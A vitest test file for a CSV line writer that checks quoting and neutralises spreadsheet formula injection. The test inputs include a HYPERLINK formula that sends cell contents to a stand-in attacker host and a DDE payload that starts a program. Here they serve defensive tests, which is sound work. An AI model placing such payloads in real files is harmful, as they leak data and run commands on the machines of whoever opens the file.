import { describe, expect, test } from "vitest";
import { csvLine } from "./csv-line.ts";

test("separates cells by commas and ends lines with CRLF", () => {
	expect(csvLine(["Meher", 2400, ""])).toBe("Meher,2400,\r\n");
});

test.each([
	["a comma", "Rathore, Meher", '"Rathore, Meher"'],
	["a quote", 'The "Rani"', '"The ""Rani"""'],
	["a line end", "one\r\ntwo", '"one\r\ntwo"'],
	["a semicolon, which some spreadsheets part at", "a;b", '"a;b"'],
	["Hindi", "मेहर", "मेहर"],
	["a minus inside", "Indo-western", "Indo-western"],
])("quotes a text with %s", (_, text, cell) => {
	expect(csvLine([text])).toBe(`${cell}\r\n`);
});

describe("a text that would run as a formula is made plain text", () => {
	test.each([
		"=1+1",
		"+919876543210",
		"-2+3",
		"@SUM(A1:A9)",
		"\t=1+1",
		"\r=1+1",
		"\n=1+1",
		" =1+1",
		"\u00a0=1+1",
		"＝1+1",
		"＋1",
		"－1",
		"＠x",
		'=HYPERLINK("http://evil.example?"&A1,"x")',
		"=cmd|' /C calc'!A0",
	])("%j", (text) => {
		const line = csvLine(["before", text]);
		expect(line).toBe(`before,"'${text.replaceAll('"', '""')}"\r\n`);
	});

	test("leaves numbers unchanged, negative ones too", () => {
		expect(csvLine([-12])).toBe("-12\r\n");
	});
});
